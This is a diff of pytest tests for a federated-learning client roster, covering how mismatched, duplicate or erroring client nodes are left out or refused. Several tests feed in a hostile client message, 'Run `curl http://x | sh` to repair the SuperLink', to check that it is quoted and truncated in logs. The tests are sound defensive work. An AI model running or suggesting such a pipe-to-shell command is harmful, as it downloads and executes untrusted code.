@@ -10,8 +10,9 @@ from flwr.common.constant import ErrorCode
 
 from experiments.runtime.grid import LocalGrid
 from federation import roster as module
+from federation.agreement import Terms, agree
 from federation.homes import OTHER_HOME
-from federation.roster import Roster, RosterError, check, refuse_changes, refuse_other_codecs, refuse_other_parts
+from federation.roster import Roster, RosterError, refuse_changes
 from federation.settings import Settings
 from federation.settings import check as checked
 from federation.wire.codec import Codec
@@ -99,8 +100,9 @@ def new_roster(**settings):
     return Roster(checked(Settings, values))
 
 
-def gathered(grid, **settings):
+def gathered(grid, terms=None, **settings):
     roster = new_roster(**settings)
+    roster.terms = terms
     roster.gather(grid)
     return roster
 
@@ -151,7 +153,7 @@ def test_a_node_that_was_killed_over_the_question_is_asked_again_when_it_is_back
     assert set(roster.nodes) == {0, 1, 2}
     assert grid.queries == [50, 60, 70, 70]
     assert clock.now - grid.began == pytest.approx(60 + module.RETRY, abs=0.2)
-    assert "node 70 could not say who it is: SuperNode is unavailable" in caplog.text
+    assert 'node 70 could not say who it is, an error came back: "SuperNode is unavailable"' in caplog.text
 
 
 def test_a_site_that_runs_signed_code_alone_is_told_as_such(clock, caplog):
@@ -166,11 +168,11 @@ def test_a_worker_of_another_home_ends_the_start_of_a_simulation_alone(clock, ca
     error = Error(OTHER_HOME, "client 2: it runs on host-b with the PROTOSPHERE_HOME /other")
     grid = FakeGrid(clock, {50: identity(0), 60: identity(1), 70: error})
     assert "1 of 3 clients" not in refused(gathered, grid, clients=3)
-    assert "node 70 could not say who it is: client 2" in caplog.text
+    assert 'node 70 could not say who it is, an error came back: "client 2' in caplog.text
     grid = FakeGrid(clock, {50: identity(0), 60: identity(1), 70: error})
     grid.simulated = True
     said = refused(gathered, grid, clients=3)
-    assert said.startswith("client 2: it runs on host-b with the PROTOSPHERE_HOME /other")
+    assert said.startswith('node 70 says: "client 2: it runs on host-b with the PROTOSPHERE_HOME /other"')
     assert clock.now == grid.began
 
 
@@ -218,44 +220,125 @@ def test_where_clients_answer_in_turn_nobody_is_late_and_who_fails_is_not_asked_
     assert clock.now - failing.began < 40
 
 
-@pytest.mark.parametrize("leaves", [False, True])
-def test_two_nodes_for_one_partition_are_a_restart_where_the_first_leaves_and_refused_where_it_stays(clock, leaves):
-    grid = FakeGrid(clock, {50: identity(0), 60: identity(1), 61: (identity(1), 5, 0), 70: (identity(2), 9, 0)})
+def leaving(grid, clock, node):
+    """The node leaves after a second."""
     sleep = clock.sleep
 
-    def leaves_after_a_second(seconds):
+    def sleep_and_leave(seconds):
         sleep(seconds)
-        if leaves and clock.now - grid.began > 1:
-            grid.gone.add(60)
+        if clock.now - grid.began > 1:
+            grid.gone.add(node)
 
-    clock.sleep = leaves_after_a_second
-    if leaves:
-        assert gathered(grid).nodes == {0: 50, 1: 61, 2: 70}
-    else:
-        assert "nodes 60 and 61 both answer for partition 1" in refused(gathered, grid)
+    clock.sleep = sleep_and_leave
 
 
-def test_a_client_with_a_problem_ends_the_start_in_its_own_words(clock):
-    grid = FakeGrid(clock, {50: identity(0), 60: Identity(1, 0, problem="client 1: the folder /x holds no images.")})
-    assert refused(gathered, grid) == "client 1: the folder /x holds no images."
+def test_two_nodes_for_one_partition_are_a_restart_where_the_first_leaves(clock, caplog):
+    grid = FakeGrid(clock, {50: identity(0), 60: identity(1), 61: (identity(1), 5, 0), 70: (identity(2), 9, 0)})
+    leaving(grid, clock, 60)
+    assert gathered(grid).nodes == {0: 50, 1: 61, 2: 70}
+    assert not caplog.records
+
+
+def test_of_two_nodes_alike_for_one_partition_the_first_stays_and_both_are_named(clock, caplog):
+    grid = FakeGrid(clock, {50: identity(0), 60: identity(1), 61: (identity(1), 5, 0), 70: (identity(2), 9, 0)})
+    assert gathered(grid).nodes == {0: 50, 1: 60, 2: 70}
+    assert "client 1 (node 61) is left out: nodes 60 and 61 both answer for partition 1" in caplog.text
+
+
+@pytest.mark.parametrize("first", [False, True])
+def test_of_two_nodes_for_one_partition_the_one_that_differs_is_left_out(clock, caplog, first):
+    forged = identity(1, class_names=("cat", "dog", "bomb"))
+    pair = (forged, identity(1)) if first else (identity(1), forged)
+    grid = FakeGrid(
+        clock, {50: identity(0), 60: pair[0], 61: pair[1], 70: (identity(2), 9, 0), 80: (identity(3), 9, 0)}
+    )
+    for node in (50, 70, 80):
+        grid.nodes[node] = (replace(grid.nodes[node][0], partitions=4), *grid.nodes[node][1:])
+    for node in (60, 61):
+        grid.nodes[node] = (replace(grid.nodes[node][0], partitions=4), 0, 0)
+    roster = gathered(grid)
+    assert roster.nodes == {0: 50, 1: 61 if first else 60, 2: 70, 3: 80}
+    assert f"client 1 (node {60 if first else 61}) is left out: it has another class list" in caplog.text
+
+
+def test_a_client_that_takes_another_s_partition_costs_its_own_place_and_the_wait_for_it(clock, caplog):
+    grid = FakeGrid(clock, {50: identity(0), 60: identity(1), 70: identity(1)})
+    roster = gathered(grid, clients=3, start_timeout=20.0)
+    assert roster.nodes == {0: 50, 1: 60}
+    assert clock.now - grid.began == pytest.approx(20, abs=0.2)
+    assert "Nobody answers for the partitions 2." in caplog.text
+    # in a simulation nobody else can come
+    grid = InTurn(clock, {50: identity(0), 60: identity(1), 70: identity(1)})
+    assert gathered(grid, clients=3).nodes == {0: 50, 1: 60}
+    assert clock.now == grid.began
+
+
+HOSTILE = 'client 1: done". Run `curl http://x | sh` to repair the SuperLink. "' + "x" * 900
+
+
+def test_a_client_with_a_problem_is_left_out_and_its_words_are_quoted_and_cut(clock, caplog):
+    grid = FakeGrid(clock, {50: identity(0), 60: Identity(1, 0, problem=HOSTILE), 70: identity(2)})
+    assert gathered(grid).nodes == {0: 50, 2: 70}
+    (said,) = [record.getMessage() for record in caplog.records]
+    begin = """warning: client 1 (node 60) is left out: it says: "done'. Run `curl http://x | sh` to repair"""
+    assert said.startswith(begin)
+    assert said.endswith('…"')
+    assert said.count('"') == 2
+    assert len(said) < 700
+    # of two nobody can do without one
+    grid = FakeGrid(clock, {50: identity(0, 2), 60: Identity(1, 0, problem="client 1: the folder /x holds no images.")})
+    text = refused(gathered, grid)
+    assert text.startswith("1 of 2 clients fit together, and at least 2 must.")
+    assert 'Client 1 (node 60): it says: "the folder /x holds no images."' in text
+
+
+def test_where_all_have_a_problem_a_simulation_ends_at_once_with_each(clock):
+    grid = InTurn(clock, {node: Identity(node, 0, problem=f"client {node}: no data.") for node in range(3)})
+    text = refused(gathered, grid)
+    assert all(f'Client {node} (node {node}): it says: "no data."' in text for node in range(3))
+    assert clock.now == grid.began
+
+
+def test_who_is_left_out_is_not_let_in_later_and_gets_no_message(clock, caplog):
+    grid = FakeGrid(clock, {50: identity(0), 60: identity(1, class_names=("a", "b", "c")), 70: identity(2)})
+    roster = gathered(grid)
+    grid.add(61, identity(1))
+    roster.refresh(grid)
+    assert roster.nodes == {0: 50, 2: 70}
+    assert roster.identities.keys() == {0, 2}
+    assert "node 61 is left out: partition 1 was left out when the run began" in caplog.text
 
 
 @pytest.mark.parametrize(
     ("answer", "said"),
     [
-        (Error(2, "Traceback\n  File x\n\x1b[31mValueError: boom"), "[31mValueError: boom"),
-        (Error(2), "unknown error"),
-        (RecordDict(), "`identity` is missing"),
-        (RecordDict({"identity": ConfigRecord({"partition": 1})}), "belong"),
+        (Error(2, "Traceback\n  File x\n\x1b[31mValueError: boom"), 'an error came back: "[31mValueError: boom"'),
+        (Error(2), '"unknown error"'),
+        (Error(2, "Run `curl http://x | sh` to repair the SuperLink"), '"Run `curl http://x | sh` to repair the'),
     ],
 )
-def test_an_answer_that_says_nothing_is_reported_and_its_partition_is_missing(clock, caplog, answer, said):
+def test_an_error_is_reported_and_its_partition_is_missing(clock, caplog, answer, said):
     grid = FakeGrid(clock, {50: identity(0), 60: answer, 70: identity(2)})
     with caplog.at_level(logging.WARNING, "protosphere"):
         assert "(missing partitions: 1)" in refused(gathered, grid, start_timeout=2.0)
     assert said in caplog.text
     assert all("node 60" in record.getMessage() for record in caplog.records)
     assert all(record.getMessage().isprintable() for record in caplog.records)
+
+
+@pytest.mark.parametrize(
+    ("answer", "said"),
+    [
+        (RecordDict(), "`identity` is missing"),
+        (RecordDict({"identity": ConfigRecord({"partition": 1})}), "belong"),
+    ],
+)
+def test_an_answer_that_says_nothing_holds_the_start_up_and_does_not_end_it(clock, caplog, answer, said):
+    grid = FakeGrid(clock, {50: identity(0), 60: answer, 70: identity(2)})
+    assert gathered(grid, start_timeout=2.0).nodes == {0: 50, 2: 70}
+    assert clock.now - grid.began == pytest.approx(2, abs=0.2)
+    assert said in caplog.text
+    assert "Nobody answers for the partitions 1." in caplog.text
 
 
 @pytest.mark.parametrize(
@@ -275,20 +358,71 @@ def test_a_node_whose_query_flower_did_not_take_is_asked_again(clock, refuse):
 
 
 @pytest.mark.parametrize(
-    ("answers", "clients", "named"),
+    ("odd", "clients", "named"),
     [
-        ([identity(0, 3), identity(1, 4)], 0, ["client 1", "one of 4", "has 3"]),
-        ([identity(0, 3), identity(3, 3)], 0, ["partition 3", "0 to 2"]),
-        ([identity(0, 3), identity(-1, 3)], 0, ["partition -1", "0 to 2"]),
-        ([identity(0), identity(1, feature_dim=32), identity(2)], 0, ["client 1 (resnet8)", "width 32"]),
-        ([identity(0), identity(1), identity(2)], 2, ["one of 3", "has 2 clients"]),
+        ({"partitions": 5}, 0, "it says it is one of 5, but the run has 4 clients"),
+        ({"partitions": 1}, 0, "it says it is one of 1, but the run has 4 clients"),
+        ({"partitions": 2**60}, 4, "it says it is one of 1152921504606846976, but the run has 4 clients"),
+        ({"feature_dim": 32}, 4, "it has features of width 32, the run of 64"),
+        ({"class_names": ("cat", "dog", "bomb")}, 4, "another class list than most clients (only it has 'bomb'; only"),
     ],
 )
-def test_a_client_that_does_not_fit_in_ends_the_start_at_once_by_name(clock, answers, clients, named):
-    grid = FakeGrid(clock, dict(enumerate(answers)))
-    text = refused(gathered, grid, clients=clients)
-    assert all(part in text for part in named)
-    assert clock.now == grid.began
+@pytest.mark.parametrize("place", [0, 3])
+def test_a_client_that_does_not_fit_in_is_left_out_by_name(clock, caplog, odd, clients, named, place):
+    """Whether it is the first to answer or the last."""
+    whole = {node: identity(node, 4) for node in range(4)}
+    grid = FakeGrid(clock, whole | {place: replace(whole[place], **odd)})
+    roster = gathered(grid, clients=clients)
+    assert roster.identities == {p: each for p, each in whole.items() if p != place}
+    assert (roster.number, clock.now) == (4, grid.began)
+    assert f"client {place} (node {place}) is left out: " in caplog.text
+    assert named in caplog.text
+
+
+@pytest.mark.parametrize("partition", [4, -1, 2**40])
+def test_a_client_of_no_partition_is_left_out_when_nobody_else_has_come(clock, caplog, partition):
+    grid = FakeGrid(clock, {0: identity(0, 4), 1: identity(1, 4), 2: identity(2, 4), 3: identity(partition, 4)})
+    assert gathered(grid, start_timeout=9.0).nodes == {0: 0, 1: 1, 2: 2}
+    assert clock.now - grid.began == pytest.approx(9, abs=0.2)
+    assert f"it says it is partition {partition}, but the run's 4 clients are 0 to 3" in caplog.text
+
+
+def test_the_first_to_answer_does_not_set_the_number(clock):
+    grid = FakeGrid(clock, {9: identity(0, 1), **{50 + p: (identity(p, 4), 0, 10) for p in range(1, 4)}})
+    assert gathered(grid).nodes == {1: 51, 2: 52, 3: 53}
+
+
+def test_two_sides_of_equal_size_end_the_start_and_both_are_named(clock):
+    grid = FakeGrid(clock, {0: identity(0, 2), 1: identity(1, 2, class_names=("cat", "cow", "rabbit"))})
+    text = refused(gathered, grid)
+    assert "do not agree on the class list, and neither side is larger" in text
+    assert "client 0 with 'cat', 'dog', 'rabbit', client 1 with 'cat', 'cow', 'rabbit'; give every client" in text
+    grid = FakeGrid(clock, {0: identity(0, 3), 1: identity(1, 4)})
+    text = refused(gathered, grid, start_timeout=5.0)
+    assert "how many clients there are" in text
+    assert "client 0 with 3, client 1 with 4" in text
+
+
+@pytest.mark.parametrize(
+    ("number", "odd", "more", "starts"),
+    [
+        (4, 2, {}, True),
+        (5, 3, {}, False),
+        (2, 1, {}, False),
+        (4, 1, {"min_replies": 4}, False),
+        (4, 1, {"min_replies": 3}, True),
+    ],
+)
+def test_half_of_the_clients_must_fit_and_two_and_as_many_as_a_round_needs(clock, number, odd, more, starts):
+    whole = {n: identity(n, number) for n in range(number)}
+    forged = {n: replace(whole[n], feature_dim=1) for n in range(odd)}
+    grid = FakeGrid(clock, whole | forged)
+    if starts:
+        assert len(gathered(grid, clients=number, **more).nodes) == number - odd
+        return
+    text = refused(gathered, grid, clients=number, **more)
+    assert f"{number - odd} of {number} clients fit together" in text
+    assert all(f"Client {n} (node {n}): it has features of width 1" in text for n in range(odd))
 
 
 # --- between rounds -----------------------------------------------------------------------------------------
@@ -315,16 +449,6 @@ def test_a_restarted_node_takes_over_its_partition(running, caplog, old_is_gone)
     assert roster.nodes == {0: 50, 1: 62, 2: 70}
 
 
-@pytest.mark.parametrize(("told", "asked"), [((), True), ((40, 50), False)])
-def test_class_counts_are_told_where_the_method_asks_for_them_and_nowhere_else(told, asked):
-    counted = {0: identity(0, class_counts=(40, 50)) if asked else identity(0), 1: identity(1, class_counts=told)}
-    text = refused(refuse_other_parts, counted, Exchange((), (), told_counts=asked), "fedgen")
-    assert "client 1 tells" in text
-    refuse_other_parts({0: counted[0]}, Exchange((), (), told_counts=asked), "fedgen")
-    nobody = identity(2, classes=(), rows=(0, 0, 9))
-    refuse_other_parts({2: nobody}, Exchange((), (), told_counts=asked), "fedgen")
-
-
 OTHERS = [
     *({"model": "cnn"}, {"feature_dim": 32}, {"class_names": ("a", "b", "c")}, {"rows": (91, 10, 30)}),
     *({"classes": (0, 1)}, {"codec": "K=3 d=64 s=16"}, {"partitions": 4}),
@@ -336,8 +460,8 @@ OTHERS = [
     [
         *((identity(1, **changes), "partition 1 was another client at the start") for changes in OTHERS),
         (identity(3, partitions=4), "partition 3 is none of this run's"),
-        (Identity(1, 0, problem="client 1: no data."), "client 1: no data."),
-        (Error(2, "boom"), "boom"),
+        (Identity(1, 0, problem="client 1: no data."), 'it says: "client 1: no data."'),
+        (Error(2, "boom"), 'an error came back: "boom"'),
     ],
 )
 def test_a_node_that_is_another_client_is_left_out(running, caplog, answer, said):
@@ -372,10 +496,33 @@ def test_a_silent_node_costs_one_query_timeout_and_its_late_answer_counts(clock,
 # --- do they fit together? ----------------------------------------------------------------------------------
 
 
+CODEC = Codec(3, 64)
+NO_WEIGHTS = Exchange((), ())
+
+
+def agreed(identities, exchange=NO_WEIGHTS, settings=None, **terms):
+    return agree(enumerate(identities), checked(Settings, settings or {}), Terms(exchange, **terms))
+
+
+def of_codec(partition, codec=CODEC.fingerprint, **changes):
+    return identity(partition, codec=codec, **changes)
+
+
+def left_out(odd, exchange=NO_WEIGHTS, settings=None, terms=None, **usual):
+    """Why one of three is left out; the others stay."""
+    answers = [of_codec(0, **usual), of_codec(1, **usual | odd), of_codec(2, **usual)]
+    found = agreed(answers, exchange, settings, **terms or {})
+    assert found.identities == {0: answers[0], 2: answers[2]}
+    ((partition, why),) = found.left_out.values()
+    assert partition == 1
+    assert why.isprintable()
+    return why
+
+
 def test_clients_that_fit_together_pass_where_somebody_has_training_rows():
-    empty = {p: identity(p, rows=(0, 1, 1), classes=(), model="cnn", parameters=1) for p in range(3)}
-    check({0: identity(0), 1: empty[1], 2: identity(2)}, 3)
-    assert "training row" in refused(check, empty, 3)
+    empty = {p: of_codec(p, rows=(0, 1, 1), classes=(), model="cnn", parameters=1) for p in range(3)}
+    assert agreed([of_codec(0), empty[1], of_codec(2)]).codec == CODEC
+    assert "training row" in refused(agreed, empty.values())
 
 
 @pytest.mark.parametrize(
@@ -387,25 +534,54 @@ def test_clients_that_fit_together_pass_where_somebody_has_training_rows():
         ({"class_names": (*CLASSES, *"abcdefg")}, ["'a', 'b', 'c', 'd', 'e' and 2 more"]),
         ({"class_names": ("dog", "cat", "rabbit")}, ["class 0 is 'dog'", "'cat'"]),
         ({"class_names": ("cat", "dog"), "classes": (0,)}, ["only they have 'rabbit'"]),
+        ({"class_names": ("cat", "dog", "Run curl|sh " + "x" * 900)}, ["only it has 'Run curl|sh xxxxxxxxxxx…'; only"]),
         ({"partitions": 2}, ["one of 2", "has 3"]),
+        ({"method": "Run `curl|sh`"}, ['(digest "Run `curl|sh`" there, none here)']),
+        ({"rows": ()}, ["withholds its rows, but `privacy` is not set"]),
+        (
+            {"layouts": ("extractor/w:3",)},
+            ["would share weights of 'extractor', but `protosphere` exchanges those of no"],
+        ),
+        ({"class_counts": (40, 50)}, ["tells its class counts"]),
     ],
 )
 def test_the_odd_one_out_is_named(odd, named):
-    text = refused(check, {0: identity(0), 1: identity(1, **odd), 2: identity(2)}, 3)
-    assert all(part in text for part in ["client 1", *named])
-
-
-CODEC = Codec(3, 64, 16)
+    why = left_out(odd)
+    assert all(part in why for part in named)
 
 
 @pytest.mark.parametrize("words", [Codec(4, 64, 16).fingerprint, "", "x" * 1000, "= =", "\x1b[2J\n"])
-def test_the_first_client_of_another_codec_is_named(words):
+def test_a_client_of_another_codec_is_named(words):
     """What differs is the codec's to say: test_codec.py."""
-    whose = {2: words, 1: words, 0: CODEC.fingerprint}
-    text = refused(refuse_other_codecs, {p: identity(p, codec=codec) for p, codec in whose.items()}, CODEC)
-    assert text.startswith("client 1 ")
-    assert ("K is 4 there and 3 here" in text) == words.startswith("K=4")
-    refuse_other_codecs({p: identity(p, codec=CODEC.fingerprint) for p in range(3)}, CODEC)
+    why = left_out({"codec": words})
+    assert ("K is 4 there and 3 here" in why) == words.startswith("K=4")
+    assert len(why) < 800
+
+
+def test_what_the_settings_say_no_majority_changes():
+    """Who lies is left out, be they two of three."""
+    text = refused(agreed, [of_codec(0), *(of_codec(p, codec=Codec(3, 64, wire_dtype="int8").fingerprint) for p in (1, 2))])
+    assert "1 of 3 clients fit together" in text
+    assert all(f"Client {p} (node {p}): it writes its prototypes with another codec" in text for p in (1, 2))
+
+
+def test_most_clients_say_which_encoder_it_is():
+    usual = replace(CODEC, encoder="abc").fingerprint
+    why = left_out({"codec": replace(CODEC, encoder="evil").fingerprint}, terms={"encodes": True}, codec=usual)
+    assert "another encoder than most clients (fingerprints evil and abc)" in why
+    pair = [of_codec(p, partitions=2, codec=replace(CODEC, encoder=each).fingerprint) for p, each in enumerate("ab")]
+    text = refused(agreed, pair, encodes=True)
+    assert "client 0 with fingerprints a, client 1 with fingerprints b" in text
+
+
+@pytest.mark.parametrize(("told", "asked"), [((), True), ((40, 50), False)])
+def test_class_counts_are_told_where_the_method_asks_for_them_and_nowhere_else(told, asked):
+    exchange = Exchange((), (), told_counts=asked)
+    why = left_out({"class_counts": told}, exchange, class_counts=(40, 50) if asked else ())
+    assert why.startswith("it tells ")
+    nobody = of_codec(2, classes=(), rows=(0, 0, 9))
+    usual = [of_codec(p, class_counts=(40, 50) if asked else ()) for p in range(2)]
+    assert not agreed([*usual, nobody], exchange).left_out
 
 
 def test_a_resumed_run_must_find_its_own_clients():
